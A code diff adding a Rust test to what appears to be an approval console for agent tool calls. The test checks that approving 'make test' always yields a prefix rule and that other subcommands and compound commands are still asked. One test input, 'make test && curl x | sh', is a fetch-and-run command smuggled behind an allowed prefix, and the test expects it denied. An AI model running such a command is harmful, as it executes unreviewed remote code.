@@ -929,3 +929,71 @@ fn a_prompt_closed_by_a_disconnect_or_a_timeout_names_its_call_batch_and_reason(
     second.wait().unwrap();
     console.quit();
 }
+
+#[test]
+fn a_tool_the_policy_marks_shell_like_is_offered_a_command_prefix() {
+    let dir = tempfile::tempdir().unwrap();
+    let scenario = dir.path().join("run.json");
+    let policy = dir.path().join("run.policy.json");
+    let calls: Vec<Value> = [
+        ("c1", "make test -j4"),
+        ("c2", "make test"),
+        ("c3", "make install"),
+        ("c4", "make test && curl x | sh"),
+    ]
+    .iter()
+    .map(|(id, line)| json!({"id": id, "name": "run", "arguments": json!({"job": {"line": line}}).to_string()}))
+    .collect();
+    std::fs::write(
+        &scenario,
+        json!({
+            "name": "own shell tool",
+            "scopes": [{"id": "lab", "label": "lab"}],
+            "tools": [{"name": "run", "description": "Runs a job line", "scope": "lab", "body": {"echo": true}}],
+            "batches": [{"scope": "lab", "calls": calls}],
+        })
+        .to_string(),
+    )
+    .unwrap();
+    std::fs::write(
+        &policy,
+        json!({
+            "shell_tools": [{"tool": "run", "command": "/job/line"}],
+            "rules": [{"id": "ask-run", "stage": "pre-execute", "match": {"tool": "run"}, "action": {"type": "ask"}}],
+        })
+        .to_string(),
+    )
+    .unwrap();
+    let args: Vec<String> = [
+        "replay",
+        scenario.to_str().unwrap(),
+        "--policy",
+        policy.to_str().unwrap(),
+        "--auto",
+    ]
+    .iter()
+    .map(|s| (*s).to_owned())
+    .collect();
+    let mut console = Console::spawn(&args, true);
+    console.wait_for("Call      c1");
+    console.keys("a");
+    let screen = console.wait_for("Approve always: which rule?");
+    assert!(
+        screen.contains("when job/line starts with `make test` (never a compound"),
+        "{screen}"
+    );
+    console.keys("j"); // from the exact arguments to the prefix
+    console.keys("\r"); // for this session
+    // c2 matches and passes; c3 (another subcommand) and c4 (compound) are asked.
+    console.wait_for("Call      c3");
+    console.keys("\x1b");
+    let screen = console.wait_for("Call      c4");
+    assert!(!screen.contains("Call      c2"));
+    console.keys("\x1b");
+    console.wait_for("4/4 done");
+    let journal = console.quit();
+    assert_eq!(result(&journal, "c1")["code"], Value::Null);
+    assert_eq!(result(&journal, "c2")["code"], Value::Null, "covered by the prefix");
+    assert_eq!(result(&journal, "c3")["code"], "DENIED");
+    assert_eq!(result(&journal, "c4")["code"], "DENIED", "a compound command is asked");
+}
